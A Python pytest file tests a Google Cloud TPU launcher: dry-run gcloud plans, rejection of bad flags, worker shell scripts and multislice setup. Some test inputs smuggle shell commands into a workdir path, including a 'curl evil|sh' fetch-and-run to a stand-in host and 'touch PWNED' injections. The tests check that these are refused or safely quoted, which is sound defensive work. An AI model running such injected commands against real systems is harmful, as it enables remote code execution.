"""launch.tpu plans and checks: every gcloud line of a dry run passes the installed gcloud's parser, and
bad input is refused before any command runs.

gcloud parses offline: with a throwaway CLOUDSDK_CONFIG (no account) a well-formed command exits 1
("no active account"), a malformed one exits 2 with a usage error.
"""
import concurrent.futures
import os
import shlex
import shutil
import stat
import subprocess
import sys
import tempfile

import pytest

from launch import tpu as launcher
from launch.tpu_types import parse_tpu_type

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
GCLOUD = shutil.which("gcloud")
needs_gcloud = pytest.mark.skipif(GCLOUD is None, reason="the Google Cloud CLI is not installed")

SLICES = {
    "single-host v5e-8": ["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://bkt/a"],
    "multi-host v5p-32": ["--tpu", "v5p-32", "--zone", "us-east5-a", "--workdir", "gs://bkt/b", "--reserved"],
    "queued spot v4-32": ["--tpu", "v4-32", "--zone", "us-central2-b", "--workdir", "gs://bkt/c", "--spot",
                          "--queued", "--keep"],
}


def dry_run(capsys, *argv) -> list[str]:
    assert launcher.main(list(argv)) == 0, capsys.readouterr().err
    return capsys.readouterr().out.splitlines()


def gcloud_parse(line: str, config_dir: str) -> tuple[int, str]:
    env = {**os.environ, "CLOUDSDK_CONFIG": config_dir, "CLOUDSDK_CORE_DISABLE_PROMPTS": "1"}
    result = subprocess.run(shlex.split(line), env=env, capture_output=True, text=True, timeout=120)
    return result.returncode, result.stderr


@needs_gcloud
def test_every_gcloud_line_of_the_plans_parses(capsys, tmp_path):
    lines = []
    for name, flags in SLICES.items():
        plan = dry_run(capsys, "run", "experiments.quickstart", "train.steps=20", "--name", "t5-test",
                       "--project", "my-proj", "--skip-compile-check", "--dry-run", *flags)
        assert " describe t5-test " in plan[0]                            # the name is free, first
        assert plan[1].split()[1:4] == ["-m", "pip", "wheel"], plan[1]   # then the local build step
        gcloud_lines = plan[2:]
        assert gcloud_lines and all(line.startswith("gcloud ") for line in gcloud_lines), plan
        tpu = parse_tpu_type(flags[1])
        create = gcloud_lines[0]
        assert f"--accelerator-type={tpu.accelerator_type}" in create
        assert tpu.generation.runtime_version in create
        if "--queued" in flags:
            assert "queued-resources create" in create and "--node-id=t5-test" in create and "--spot" in create
            assert not any(" delete " in line for line in gcloud_lines)   # --keep
        else:
            assert "tpu-vm create" in create
            assert "delete" in gcloud_lines[-1]
        run = next(line for line in gcloud_lines if "python -m experiments.quickstart" in line)
        assert "--worker=all" in run and "workdir=gs://bkt/" in run and "train.steps=20" in run
        lines += [plan[0], *gcloud_lines]
    for action in ("status", "logs", "stop", "delete"):
        lines += dry_run(capsys, action, "--name", "t5-test", "--zone", "us-east5-a", "--project", "my-proj",
                         "--dry-run")
    config_dir = str(tmp_path / "gcloud")
    os.makedirs(config_dir)
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda line: gcloud_parse(line, config_dir), lines))
    for line, (code, err) in zip(lines, results):
        assert code != 2 and "usage" not in err.lower() and "unrecognized arguments" not in err, (line, err)
        assert code == 1 and "account" in err, (line, code, err)  # parsed, then stopped for want of a login


@needs_gcloud
def test_a_misspelt_flag_is_what_the_parser_check_catches(tmp_path):
    """The check above can fail: the same parser refuses a bad flag with exit 2."""
    code, err = gcloud_parse("gcloud compute tpus tpu-vm ssh t5-test --zone=us-east5-a --wrker=all", str(tmp_path))
    assert code == 2 and "unrecognized arguments" in err


# Bad input: a clear error (exit 2) and no gcloud command run ------------------------------------------

V5E = ["--tpu", "v5e-8", "--zone", "us-west4-a", "--project", "p"]
BAD = {
    "unknown TPU type": (["--tpu", "v7x-99", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                         "not one this launcher knows"),
    "a size the generation lacks": (["--tpu", "v5p-12", "--zone", "us-east5-a", "--project", "p",
                                     "--workdir", "gs://bkt/r"], "slices come in these sizes"),
    "zone without the type": (["--tpu", "v4-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                              "does not offer v4"),
    "local workdir, multi-host": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p",
                                   "--workdir", "/tmp/run"], "gs://BUCKET/RUN"),
    "mesh vs chips": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r",
                       "mesh.data=4", "mesh.fsdp=2"], "mesh does not match the slice (v5p-32 has 16 chips)"),
    # The workdir: a valid Cloud Storage path, or refused with the rule it breaks.
    "workdir: a one-letter bucket, with shell in the path": (V5E + ["--workdir", "gs://b/my run;curl evil|sh;"],
                                                             "the bucket name 'b' is shorter than 3 characters"),
    "workdir: capitals in the bucket": (V5E + ["--workdir", "gs://My_Bucket/run"], "has capital letters"),
    "workdir: gs:/ for gs://": (V5E + ["--workdir", "gs:/my-bucket/run"], "gs://BUCKET/RUN"),
    "workdir: a wildcard in the path": (V5E + ["--workdir", "gs://my-bucket/run*"], "characters ['*']"),
    "a zone without '-' before its letter": (["--tpu", "v5e-8", "--zone", "us-east5a", "--project", "p",
                                               "--workdir", "gs://bkt/r"], "the form is REGION-ZONE, e.g. us-east5-a"),
    "a zone that is no Google Cloud zone": (["--tpu", "v5e-8", "--zone", "mars-1-a", "--project", "p",
                                             "--workdir", "gs://bkt/r", "--any-zone"], "the form is REGION-ZONE"),
    # Several slices: the DCN axes (mesh.dcn_data x mesh.dcn_fsdp) must be --num-slices.
    "--num-slices without DCN axes": (V5E + ["--workdir", "gs://bkt/r", "--num-slices", "2"],
                                      "mesh.dcn_data=1 x mesh.dcn_fsdp=1 = 1 slices, but --num-slices=2"),
    "DCN axes without --num-slices": (V5E + ["--workdir", "gs://bkt/r", "mesh.dcn_data=2"],
                                      "= 2 slices, but --num-slices=1"),
    "no slices": (V5E + ["--workdir", "gs://bkt/r", "--num-slices", "0"], "--num-slices=0 must be 1 or more"),
    "no local workers": (["--local-pod", "0", "--workdir", "/tmp/run"], "--local-pod=0: it is the number of local"),
    "no devices per local worker": (["--local-pod", "2", "--local-devices", "0", "--workdir", "/tmp/run"],
                                    "--local-devices=0"),
    "no project, no gcloud default": (["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://bkt/r"],
                                      "no --project given"),
    "no zone, no gcloud default": (["--tpu", "v5e-8", "--project", "p", "--workdir", "gs://bkt/r"],
                                   "no --zone given"),
}


@pytest.fixture(scope="module")
def gcloud_spy():
    """A `gcloud` first on PATH that logs its arguments, then runs the real one (with no account)."""
    d = tempfile.mkdtemp()
    log = os.path.join(d, "calls.log")
    spy = os.path.join(d, "gcloud")
    with open(spy, "w") as f:
        f.write(f'#!/bin/sh\necho "$*" >> {log}\nexec {GCLOUD} "$@"\n')
    os.chmod(spy, os.stat(spy).st_mode | stat.S_IEXEC)
    os.makedirs(os.path.join(d, "config"))
    env = {**os.environ, "PATH": d + os.pathsep + os.environ["PATH"], "CLOUDSDK_CONFIG": os.path.join(d, "config"),
           "PYTHONPATH": ROOT}
    yield env, log
    shutil.rmtree(d)


@needs_gcloud
@pytest.mark.parametrize("case", list(BAD))
def test_bad_input_is_refused_before_any_command(case, gcloud_spy):
    env, log = gcloud_spy
    flags, expected = BAD[case]
    if os.path.exists(log):
        os.remove(log)
    # Not a dry run: were the checks to pass, the launcher would start building and creating.
    result = subprocess.run([sys.executable, "-m", "launch.tpu", "run", "experiments.quickstart", "--name", "bad",
                             "--skip-compile-check", *flags], env=env, capture_output=True, text=True, cwd=ROOT,
                            timeout=300)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("error: ") and expected in result.stderr, result.stderr
    calls = open(log).read().splitlines() if os.path.exists(log) else []
    assert all(c.startswith("config get-value") for c in calls), calls   # only reads of gcloud's defaults
    assert "+ " not in result.stderr  # the launcher echoes every command it runs


@needs_gcloud
def test_a_dry_run_needs_no_project_and_says_which_zones_it_did_not_check(capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))   # a gcloud with no default project or zone
    plan = dry_run(capsys, "run", "experiments.quickstart", "--name", "t5-test", "--tpu", "v5e-8", "--zone",
                   "europe-west4-b", "--workdir", "gs://bkt/a", "--skip-compile-check", "--dry-run")
    assert launcher.main(["status", "--name", "t5-test", "--zone", "europe-west4-b", "--dry-run"]) == 0
    status, err = capsys.readouterr()   # (dry_run() has read the run's; status says the same)
    gcloud_lines = [line for line in plan if line.startswith("gcloud compute")] + status.splitlines()
    assert len(gcloud_lines) > 5 and all(line.endswith("--project=PROJECT_ID") for line in gcloud_lines), gcloud_lines
    assert "the plan shows --project=PROJECT_ID; a real run needs --project=..." in err, err
    # A well-formed zone outside the table is not judged, and the run says so; a malformed one is refused.
    assert launcher.main(["run", "experiments.quickstart", "--name", "t5-test", "--tpu", "v5e-8", "--zone",
                          "europe-west4-b", "--project", "p", "--workdir", "gs://bkt/a", "--skip-compile-check",
                          "--dry-run"]) == 0
    assert "note: --zone=europe-west4-b was not checked" in capsys.readouterr().err
    assert launcher.main(["delete", "--name", "t5-test", "--zone", "us-east5a", "--project", "p", "--dry-run"]) == 2
    assert "REGION-ZONE" in capsys.readouterr().err


# The shell each worker runs ------------------------------------------------------------------------

def test_the_worker_scripts_are_valid_shell_and_the_run_script_keeps_logs_and_exit_codes(tmp_path):
    from launch import gcloud
    for script in (gcloud.setup_script("t5like-0.1.0-py3-none-any.whl"), gcloud.CLEANUP_SCRIPT, gcloud.tail_script(),
                   gcloud.logs_script(), gcloud.stop_script(), gcloud.run_script(["python", "-m", "x"], "gs://b/r/logs")):
        assert subprocess.run(["bash", "-n", "-c", script]).returncode == 0, script
    # Run the run script as a worker would, with this machine's venv standing in for the worker's.
    home = tmp_path / "home"
    (home / "t5like").mkdir(parents=True)
    os.symlink(os.path.dirname(os.path.dirname(sys.executable)), home / "t5like" / "venv")
    command = ["python", "-c", "import sys; print('step 1'); print('oops', file=sys.stderr); sys.exit(3)"]
    script = gcloud.run_script(command, str(tmp_path / "workdir" / "logs"))
    env = {**os.environ, "HOME": str(home)}
    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    assert result.returncode == 3                                   # the trainer's exit code reaches gcloud ssh
    log = (home / "t5like" / "worker.log").read_text()
    assert "step 1" in log and "oops" in log
    copies = list((tmp_path / "workdir" / "logs").iterdir())
    assert len(copies) == 1 and copies[0].read_text() == log        # kept in the workdir too, named by host
    assert (home / "t5like" / "train.pid").read_text().strip().isdigit()
    assert subprocess.run(["bash", "-c", gcloud.stop_script()], env=env).returncode == 0   # nothing left to stop


# A slice this launcher did not make is never deleted ---------------------------------------------------

STUB = """#!/bin/sh
echo "$*" >> {log}
case "$*" in
  *" describe "*) if [ -n "$NAME_TAKEN" ]; then echo READY; exit 0; fi
                  echo "ERROR: (gcloud.compute.tpus.tpu-vm.describe) NOT_FOUND: t" >&2; exit 1;;
  *" create "*) echo "ERROR: (gcloud.compute.tpus.tpu-vm.create) ALREADY_EXISTS: t already exists" >&2; exit 1;;
esac
exit 0
"""


@pytest.mark.parametrize("taken_when,queued", [("before the run", False), ("between the check and the create", True)])
def test_a_name_in_use_is_refused_and_the_other_slice_is_not_deleted(taken_when, queued, tmp_path):
    """ALREADY_EXISTS cannot come from the real gcloud offline: a stub plays the cloud, where slice `t` is
    another run's. Seen before the run: refused up front (exit 2); taken in between: create fails (exit 1).
    Either way no delete."""
    log = tmp_path / "calls.log"
    (tmp_path / "bin").mkdir()
    stub = tmp_path / "bin" / "gcloud"
    stub.write_text(STUB.format(log=shlex.quote(str(log))))
    stub.chmod(0o755)
    env = {**os.environ, "PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}", "PYTHONPATH": ROOT,
           "NAME_TAKEN": "1" if taken_when == "before the run" else ""}
    result = subprocess.run([sys.executable, "-m", "launch.tpu", "run", "experiments.quickstart", "--tpu", "v5e-8",
                             "--zone", "us-west4-a", "--project", "p", "--workdir", "gs://bkt/run", "--name", "t",
                             "--skip-compile-check", "--logs", str(tmp_path / "logs"), "--max-restarts", "0",
                             *(["--queued"] if queued else [])],
                            env=env, capture_output=True, text=True, cwd=ROOT, timeout=300)
    calls = log.read_text().splitlines()
    assert not any(" delete " in c for c in calls), calls
    if taken_when == "before the run":
        assert result.returncode == 2, result.stderr
        assert "named 't' already exists" in result.stderr and "Pick another --name" in result.stderr
        assert not any(" create " in c for c in calls), calls
    else:
        assert result.returncode == 1, result.stderr
        assert any(" create " in c for c in calls) and "nothing was deleted" in result.stderr, result.stderr


@needs_gcloud
@pytest.mark.parametrize("where", ["local", "gs"])
def test_the_workdir_in_the_worker_script_is_a_path_never_shell(where, tmp_path):
    """Spaces and shell in a (valid) workdir stay part of the path; a log copy that fails says so. The real
    gcloud, with no account, is the copy that fails for gs://."""
    from launch import gcloud
    home = tmp_path / "home"
    (home / "t5like").mkdir(parents=True)
    os.symlink(os.path.dirname(os.path.dirname(sys.executable)), home / "t5like" / "venv")
    log_dir = (f"{tmp_path}/my run;touch PWNED;$(touch PWNED2)/logs" if where == "local"
               else "gs://my-bucket/my run;touch PWNED;$(touch PWNED2)/logs")
    (tmp_path / "gcloud").mkdir()
    env = {**os.environ, "HOME": str(home), "CLOUDSDK_CONFIG": str(tmp_path / "gcloud")}
    script = gcloud.run_script(["python", "-c", "print('step 1')"], log_dir)
    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, cwd=tmp_path,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    assert not [p for p in (home / "t5like", tmp_path) for name in ("PWNED", "PWNED2") if (p / name).exists()]
    if where == "local":
        copies = list((tmp_path / "my run;touch PWNED;$(touch PWNED2)" / "logs").iterdir())
        assert [c.read_text() for c in copies] == ["step 1\n"]
        assert result.stderr == ""
    else:
        assert f"could not copy worker.log to {log_dir}/" in result.stderr, result.stderr


def test_launch_compile_takes_overrides_after_the_topology():
    """As its docstring shows (`... size=tiny --topology v5e-4 train.batch_size=64`); an unknown type is
    refused before any config is loaded, so this compiles nothing."""
    result = subprocess.run([sys.executable, "-m", "launch.compile", "experiments.gpt2_small", "size=tiny",
                             "--topology", "v7x-1", "train.batch_size=64"], env={**os.environ, "PYTHONPATH": ROOT},
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 2 and "error: TPU type 'v7x-1' is not one this launcher knows" in result.stderr, \
        result.stderr


# Several slices (--num-slices K): one queued resource of K nodes, the multislice environment on each ----------

@needs_gcloud
def test_a_two_slice_plan_parses_and_tells_every_slice_its_environment(capsys, tmp_path):
    """2 slices of v5e-8 with data over DCN: one queued resource (--node-count/--node-prefix; --queued is implied),
    every per-node step once per node, each slice's workers told MEGASCALE_SLICE_ID; every line parses in gcloud."""
    plan = dry_run(capsys, "run", "experiments.llama_1b", "size=tiny", "mesh.dcn_data=2", "--name", "t5-ms",
                   "--tpu", "v5e-8", "--num-slices", "2", "--zone", "us-west4-a", "--project", "my-proj",
                   "--workdir", "gs://bkt/ms", "--skip-compile-check", "--dry-run")   # the mesh check accepts it
    gcloud_lines = [line for line in plan if line.startswith("gcloud ")]
    create = gcloud_lines[1]
    assert create.startswith("gcloud compute tpus queued-resources create t5-ms --node-count=2 --node-prefix=t5-ms "
                             "--accelerator-type=v5litepod-8 --runtime-version="), create
    assert " tpu-vm describe t5-ms-0 '--format=value(networkEndpoints[0].ipAddress)'" in gcloud_lines[3]
    ssh_nodes = [line.split()[5] for line in gcloud_lines if " tpu-vm ssh " in line]
    # setup and cleanup on each node, worker 0's log from slice 0, the run on each node
    assert ssh_nodes == ["t5-ms-0", "t5-ms-1"] * 2 + ["t5-ms-0"] * 2 + ["t5-ms-1"], ssh_nodes
    assert sum(" tpu-vm scp " in line and "'t5-ms-0:~/'" in line for line in gcloud_lines) == 1
    assert sum(" tpu-vm scp " in line and "'t5-ms-1:~/'" in line for line in gcloud_lines) == 1
    runs = [line for line in gcloud_lines if "python -m experiments.llama_1b" in line]
    assert [line.split()[5] for line in runs] == ["t5-ms-0", "t5-ms-1"], runs
    for i, line in enumerate(runs):
        assert (f"export MEGASCALE_COORDINATOR_ADDRESS=SLICE0_WORKER0_IP MEGASCALE_NUM_SLICES=2 "
                f"MEGASCALE_SLICE_ID={i} MEGASCALE_PORT=8080; python -m experiments.llama_1b size=tiny "
                "mesh.dcn_data=2 workdir=gs://bkt/ms") in line and "--worker=all" in line, line
    assert gcloud_lines[-1].startswith("gcloud compute tpus queued-resources delete t5-ms --force --quiet")
    assert not any(" delete t5-ms-" in line for line in gcloud_lines)   # the queued resource takes its nodes
    lines = [plan[0], *gcloud_lines]
    for action in ("status", "logs", "stop", "delete"):
        out = dry_run(capsys, action, "--name", "t5-ms", "--num-slices", "2", "--zone", "us-west4-a",
                      "--project", "my-proj", "--dry-run")
        if action in ("logs", "stop"):
            assert [line.split()[5] for line in out] == ["t5-ms-0", "t5-ms-1"], out
        else:
            assert len(out) == 1 and " queued-resources " in out[0], out
        lines += out
    lines = list(dict.fromkeys(lines))   # each distinct line once (the state check recurs)
    config_dir = str(tmp_path / "gcloud")
    os.makedirs(config_dir)
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda line: gcloud_parse(line, config_dir), lines))
    for line, (code, err) in zip(lines, results):
        assert code == 1 and "account" in err and "unrecognized arguments" not in err, (line, code, err)


def test_the_multislice_environment_reaches_the_worker_command(tmp_path):
    """The run script exports MEGASCALE_* before the trainer starts (quoted), and keeps its exit code."""
    from launch import gcloud
    home = tmp_path / "home"
    (home / "t5like").mkdir(parents=True)
    os.symlink(os.path.dirname(os.path.dirname(sys.executable)), home / "t5like" / "venv")
    env = gcloud.megascale_env("10.0.0.2", 2, 1)
    command = ["python", "-c", "import os; print(sorted((k, v) for k, v in os.environ.items() if 'MEGASCALE' in k))"]
    script = gcloud.run_script(command, str(tmp_path / "logs"), env)
    result = subprocess.run(["bash", "-c", script], env={**os.environ, "HOME": str(home)}, capture_output=True,
                            text=True)
    assert result.returncode == 0, result.stderr
    assert (home / "t5like" / "worker.log").read_text().strip() == str(sorted(env.items()))
    assert env == {"MEGASCALE_COORDINATOR_ADDRESS": "10.0.0.2", "MEGASCALE_NUM_SLICES": "2",
                   "MEGASCALE_SLICE_ID": "1", "MEGASCALE_PORT": "8080"}
